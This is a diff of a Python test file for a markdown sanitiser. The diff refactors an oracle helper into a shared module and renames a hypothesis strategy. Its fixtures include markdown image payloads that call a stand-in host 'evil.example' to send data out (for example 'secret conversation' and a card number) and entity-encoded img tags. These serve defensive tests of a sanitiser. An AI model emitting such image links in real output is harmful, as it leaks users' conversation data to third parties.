@@ -9,13 +9,14 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from components.text.markdown_parser import Token, parse
+from components.text.markdown_parser import parse
 from components.text.markdown_safety import (
     escape_markdown,
     safe_markdown,
     safe_partial_markdown,
     stream_safely,
 )
+from tests.markdown_oracle import findings, walk
 
 TRACKER = "![x](https://evil.example/p.png?q=secret+conversation)"
 
@@ -62,28 +63,6 @@ def _links(markdown: str) -> list[str]:
 
 
 # --- the parser as the oracle ---------------------------------------------------------------
-
-_ALLOWED_HREF = re.compile(r"(?i)(https?://|mailto:)")
-
-
-def _walk(tokens: list[Token]):
-    for token in tokens:
-        yield token
-        yield from _walk(token.children or [])
-
-
-def _oracle_findings(markdown: str) -> list[str]:
-    """What the renderer's parser (with and without math) reads as an image, raw HTML or a link
-    to somewhere other than the web or mail, in ``markdown``."""
-    found = []
-    for math in (False, True):
-        for token in _walk(parse(markdown, math=math)):
-            if token.type in ("image", "html_inline", "html_block"):
-                found.append(f"{token.type}: {token.content or token.attrs}")
-            elif token.type == "link_open" and not _ALLOWED_HREF.match(str(token.attrs["href"])):
-                found.append(f"link: {token.attrs['href']}")
-    return found
-
 
 # --- images ---------------------------------------------------------------------------------
 
@@ -182,7 +161,7 @@ def test_tag_that_commonmark_does_not_read_as_html_stays_text_with_a_web_link():
     # An unquoted value may not hold "=": CommonMark (and so the renderer) reads this as text,
     # so it is shown as text, with the address a plain web link, and the lone </a> as code.
     out = safe_markdown("see <a href=https://e.org/d?a=1&amp;b=2>docs</a>。")
-    assert _oracle_findings(out) == []
+    assert findings(out) == []
     assert "`</a>`" in out and "\\<a href=" in out
 
 
@@ -424,8 +403,8 @@ LEAK = "![](http://evil.example/leak?q=card-4242)"
 )
 def test_backticks_where_commonmark_opens_no_code_still_cannot_hide_an_image(text):
     out = safe_markdown(text)
-    assert _oracle_findings(out) == [], out
-    assert _oracle_findings(safe_partial_markdown(text)) == []
+    assert findings(out) == [], out
+    assert findings(safe_partial_markdown(text)) == []
     assert "`http://evil.example/leak?q=card-4242`" in out  # shown as a placeholder
 
 
@@ -438,7 +417,7 @@ def test_math_that_hides_a_code_span_cannot_hide_an_image():
     # remark-math reads $`$ as math, which frees the image a plain CommonMark parse sees as code.
     text = f"$`$ {LEAK} `$`"
     out = safe_markdown(text)
-    assert _oracle_findings(out) == [], out
+    assert findings(out) == [], out
     assert "evil.example" not in out or "`http://evil.example/leak?q=card-4242`" in out
 
 
@@ -446,12 +425,12 @@ def test_math_is_kept_as_written_even_beside_a_link():
     text = "Area $\\pi r^2$ and $$x_1$$, see [docs](https://e.org)."
     out = safe_markdown(text)
     assert "$\\pi r^2$" in out and "$$x_1$$" in out
-    assert _oracle_findings(out) == []
+    assert findings(out) == []
 
 
 def test_entities_cannot_spell_a_tag_or_an_image():
     out = safe_markdown("&lt;img src=http://evil/x&gt; and &#33;&#91;a](http://evil/y)")
-    assert _oracle_findings(out) == []
+    assert findings(out) == []
     assert "<img" not in out.replace("\\<img", "")
 
 
@@ -466,14 +445,14 @@ def test_entities_cannot_spell_a_tag_or_an_image():
 )
 def test_escaped_labels_render_as_their_literal_text(name):
     out = escape_markdown(name)
-    tokens = [t for t in _walk(parse(out, math=True)) if t.type not in ("inline",)]
+    tokens = [t for t in walk(parse(out, math=True)) if t.type not in ("inline",)]
     assert [t.type for t in tokens] == ["paragraph_open", "text", "paragraph_close"], out
     assert tokens[1].content.replace("\u2060", "") == name
 
 
 # --- the differential property: the parser reads no image, HTML or odd link in the output ----
 
-_HOSTILE_PIECES = st.sampled_from(
+HOSTILE_PIECES = st.sampled_from(
     [
         "`",
         "``",
@@ -551,14 +530,14 @@ _HOSTILE_PIECES = st.sampled_from(
 
 
 @settings(max_examples=600, deadline=None)
-@given(st.lists(_HOSTILE_PIECES, max_size=40).map("".join))
+@given(st.lists(HOSTILE_PIECES, max_size=40).map("".join))
 def test_the_parser_reads_no_image_html_or_odd_link_in_the_output(text):
     out = safe_markdown(text)
-    assert _oracle_findings(out) == [], (text, out)
+    assert findings(out) == [], (text, out)
 
 
 @settings(max_examples=200, deadline=None)
-@given(st.lists(_HOSTILE_PIECES, max_size=40).map("".join))
+@given(st.lists(HOSTILE_PIECES, max_size=40).map("".join))
 def test_the_parser_reads_none_in_any_live_view_either(text):
     for cut in range(0, len(text) + 1, max(1, len(text) // 6)):
-        assert _oracle_findings(safe_partial_markdown(text[:cut])) == [], text[:cut]
+        assert findings(safe_partial_markdown(text[:cut])) == [], text[:cut]
